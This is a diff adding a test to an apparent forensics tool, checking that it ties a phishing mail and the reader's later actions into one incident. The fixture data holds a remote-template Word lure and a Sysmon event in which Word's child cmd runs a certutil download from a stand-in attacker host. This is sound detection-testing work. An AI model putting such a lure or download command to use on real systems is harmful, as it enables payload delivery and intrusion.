@@ -8,11 +8,12 @@ from pathlib import Path
 
 import pytest
 
-from content_writer import DOCX, PE, TEXT, zipped
+from content_writer import DOCX, PE, TEXT, relation, zipped
 from kazami.cli import run
 from kazami.store import incidents as kept
 from kazami.store.case import Case
 from kazami.store.lists import evidence_rows
+from mail_writer import eml
 from pe_writer import STUBBED, masked, pe
 
 
@@ -102,3 +103,61 @@ def test_a_side_loading_pair_in_a_folder_is_a_finding_with_its_hashes(tmp_path: 
 def test_a_second_scan_tells_the_same(evidence: Path, tmp_path: Path) -> None:
     first = {row["finding_uid"] for row in scan(evidence, tmp_path / "case")}
     assert {row["finding_uid"] for row in scan(evidence, tmp_path / "case")} == first
+
+
+def event(number: int, kind: int, **fields: object) -> str:
+    """An event of Sysmon at the desk of the mail's reader."""
+    return json.dumps(
+        {
+            "EventID": kind,
+            "Channel": "Microsoft-Windows-Sysmon/Operational",
+            "Computer": "pc7.minato.example",
+            "User": "MINATO\\sato",
+            "UtcTime": f"2026-11-09 00:2{number}:00.000",
+            **fields,
+        }
+    )
+
+
+def test_a_mail_and_what_its_reader_did_is_one_incident(tmp_path: Path) -> None:
+    folder = tmp_path / "evidence"
+    folder.mkdir()
+    rels = relation("attachedTemplate", "http://update.notice.example/t.dotm")
+    lure = zipped({"会議.docx": zipped({"[Content_Types].xml": b"", "word/_rels/settings.xml.rels": rels})})
+    (folder / "mail.eml").write_bytes(
+        eml(
+            "info@notice.example",
+            files={"会議.zip": lure},
+            Delivered_To="sato@minato.example",
+            Received="from x by y; Mon, 09 Nov 2026 09:12:00 +0900",
+        )
+    )
+    word = "C:\\Program Files\\Microsoft Office\\WINWORD.EXE"
+    (folder / "pc7.jsonl").write_text(
+        "\n".join(
+            (
+                event(1, 1, Image=word, CommandLine=f'"{word}" /n "C:\\Temp\\会議.docx"', ProcessGuid="{b}"),
+                event(2, 1, Image="C:\\Windows\\System32\\cmd.exe", ParentImage=word, ProcessGuid="{c}", ParentProcessGuid="{b}", CommandLine="cmd /c certutil -urlcache -f http://update.notice.example/a.txt a.txt"),
+            )
+        ),
+        "utf-8",
+    )  # fmt: skip
+    found = {row["title"]: row for row in scan(folder, tmp_path / "case")}
+    lured = found["Template from another machine"]
+    assert (lured["time"], lured["user"], lured["host"]) == (
+        "2026-11-09T00:12:00.000000+00:00",
+        "sato@minato.example",
+        None,
+    )
+    assert lured["tactics"] == ["defense-evasion"]
+    assert lured["matched"]["mail from"] == "info@notice.example"
+    assert found["Attachment of a Suspicious Mail Opened"]["host"] == "pc7.minato.example"
+    with Case.open(tmp_path / "case") as case:
+        (one,) = kept.incidents(case)
+        told = kept.incident(case, one.incident_uid)
+    assert told is not None
+    assert told.hosts == ("pc7",)
+    assert told.entry.en.startswith(
+        "It begins with Template from another machine at the account sato at 2026-11-09"
+    )
+    assert {tie.kind for tie in told.links} == {"account", "hash"}
